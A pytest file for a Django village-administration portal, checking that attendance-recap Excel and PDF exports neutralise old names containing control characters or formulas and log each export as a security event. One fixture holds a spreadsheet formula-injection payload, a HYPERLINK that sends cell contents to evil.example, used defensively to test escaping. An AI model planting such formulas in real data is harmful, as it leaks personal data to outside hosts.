"""The rekap absensi exports (web and API, Excel and PDF) write every cell through the portal's spreadsheet
writer (``portal.exports``): a name stored before input was cleaned at the door, with a control character
or a formula, neither breaks the whole kecamatan's export nor comes out as a live formula. Each export is a
security event (personal data leaving the portal)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from attendance import rollup
from attendance.models import DailyStatus
from portal.models import Perangkat, SecurityEvent

pytestmark = pytest.mark.django_db
AUGUST = dt.date(2026, 8, 1)
BULAN = "2026-08"
CONTROL = "Dewi\u000bLain"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'


@pytest.fixture
def old_names(tenancy):
    """Desa A's Kepala Desa stored with a vertical tab in his name, desa B's Sekretaris with a formula: rows from
    before input was cleaned (``update`` skips every check, as old rows did)."""
    for perangkat in (tenancy.perangkat_a, tenancy.perangkat_b):
        DailyStatus.objects.create(
            perangkat=perangkat, desa=perangkat.desa, date=dt.date(2026, 8, 3), status="H", computed_at=timezone.now()
        )
    rollup.rebuild()  # as the recompute keeps it
    Perangkat.objects.filter(pk=tenancy.perangkat_a.pk).update(nama=CONTROL)
    Perangkat.objects.filter(pk=tenancy.perangkat_b.pk).update(nama=FORMULA)
    return tenancy


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_safe(data: bytes) -> None:
    everything = cells(data)
    assert not [c.coordinate for c in everything if c.data_type == "f"]  # no formula anywhere
    values = [c.value for c in everything]
    assert "'" + FORMULA in values and FORMULA not in values  # kept as text behind an apostrophe
    assert "DewiLain" in values and not any(isinstance(v, str) and "\u000b" in v for v in values)


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def web(client, user, name, *args, **params):
    client.force_login(user)
    return client.get(reverse(name, args=args), params)


# The writer ---------------------------------------------------------------------------------------------------


def test_the_kecamatan_workbook_survives_old_names_on_the_web(client, old_names):
    response = web(client, old_names.camat, "attendance-month-xlsx", bulan=BULAN)
    assert response.status_code == 200
    assert_safe(response.content)


def test_the_kecamatan_workbook_survives_old_names_in_the_api(old_names):
    response = old_names.client(old_names.camat).get(reverse("api:attendance-recap-xlsx"), {"month": BULAN})
    assert response.status_code == 200
    assert_safe(response.content)


@pytest.mark.parametrize("via", ["web", "api"])
def test_one_desa_workbook_with_a_control_character(client, old_names, via):
    if via == "web":
        response = web(client, old_names.camat, "attendance-desa-month-xlsx", "35.24.13.2001", bulan=BULAN)
    else:
        api = old_names.client(old_names.camat)
        response = api.get(reverse("api:attendance-recap-xlsx"), {"month": BULAN, "desa": "35.24.13.2001"})
    assert response.status_code == 200
    values = [c.value for c in cells(response.content)]
    assert "DewiLain" in values  # the name, cleaned; and in the Kepala Desa's signature line too
    assert values.count("DewiLain") == 2


@pytest.mark.parametrize("via", ["web", "api"])
def test_one_desa_workbook_keeps_a_formula_as_text(client, old_names, via):
    if via == "web":
        response = web(client, old_names.camat, "attendance-desa-month-xlsx", "35.24.13.2002", bulan=BULAN)
    else:
        api = old_names.client(old_names.camat)
        response = api.get(reverse("api:attendance-recap-xlsx"), {"month": BULAN, "desa": "35.24.13.2002"})
    assert response.status_code == 200
    everything = cells(response.content)
    assert not [c.coordinate for c in everything if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in everything]


@pytest.mark.parametrize("via", ["web", "api"])
def test_the_pdf_shows_old_names_cleaned(client, old_names, via):
    for kode, expected in (("35.24.13.2001", "DewiLain"), ("35.24.13.2002", "HYPERLINK")):
        if via == "web":
            response = web(client, old_names.camat, "attendance-desa-month-pdf", kode, bulan=BULAN)
        else:
            api = old_names.client(old_names.camat)
            response = api.get(reverse("api:attendance-recap-pdf"), {"month": BULAN, "desa": kode})
        assert response.status_code == 200 and response.content.startswith(b"%PDF")
        assert expected in pdf_text(response.content)


# The audit ----------------------------------------------------------------------------------------------------


def events() -> list[tuple]:
    return [
        (e.user.username, e.detail.get("export"), e.detail.get("format"), e.detail.get("month"), e.detail.get("desa"))
        for e in SecurityEvent.objects.filter(kind=SecurityEvent.Kind.EXPORT_PERSONAL).order_by("pk")
    ]


def test_every_web_export_is_a_security_event(client, old_names):
    t = old_names
    assert web(client, t.camat, "attendance-month-xlsx", bulan=BULAN).status_code == 200
    assert web(client, t.operator_a, "attendance-desa-month-xlsx", "35.24.13.2001", bulan=BULAN).status_code == 200
    assert web(client, t.kasi_tapem, "attendance-desa-month-pdf", "35.24.13.2001", bulan=BULAN).status_code == 200
    assert events() == [
        ("camat", "rekap_absensi", "xlsx", BULAN, None),
        ("op_a", "rekap_absensi", "xlsx", BULAN, "35.24.13.2001"),
        ("kasitapem", "rekap_absensi", "pdf", BULAN, "35.24.13.2001"),
    ]
    event = SecurityEvent.objects.filter(kind=SecurityEvent.Kind.EXPORT_PERSONAL).order_by("pk").first()
    assert (event.actor, event.ip) == (t.camat, "127.0.0.1")


def test_every_api_export_is_a_security_event(old_names):
    t = old_names
    api = t.client(t.kasi_tapem)
    assert api.get(reverse("api:attendance-recap-xlsx"), {"month": BULAN}).status_code == 200
    assert api.get(reverse("api:attendance-recap-xlsx"), {"month": BULAN, "desa": "35.24.13.2002"}).status_code == 200
    assert api.get(reverse("api:attendance-recap-pdf"), {"month": BULAN, "desa": "35.24.13.2002"}).status_code == 200
    assert events() == [
        ("kasitapem", "rekap_absensi", "xlsx", BULAN, None),
        ("kasitapem", "rekap_absensi", "xlsx", BULAN, "35.24.13.2002"),
        ("kasitapem", "rekap_absensi", "pdf", BULAN, "35.24.13.2002"),
    ]
    event = SecurityEvent.objects.filter(kind=SecurityEvent.Kind.EXPORT_PERSONAL).order_by("pk").last()
    assert (event.actor, event.ip) == (t.kasi_tapem, "127.0.0.1")


def test_an_export_refused_by_scope_records_nothing(client, old_names):
    t = old_names
    assert web(client, t.outsider, "attendance-desa-month-xlsx", "35.24.13.2001", bulan=BULAN).status_code == 404
    assert web(client, t.outsider, "attendance-desa-month-pdf", "35.24.13.2001", bulan=BULAN).status_code == 404
    api = t.client(t.outsider)
    assert api.get(reverse("api:attendance-recap-xlsx"), {"desa": "35.24.13.2001"}).status_code == 404
    assert api.get(reverse("api:attendance-recap-pdf"), {"desa": "35.24.13.2001"}).status_code == 404
    assert events() == []
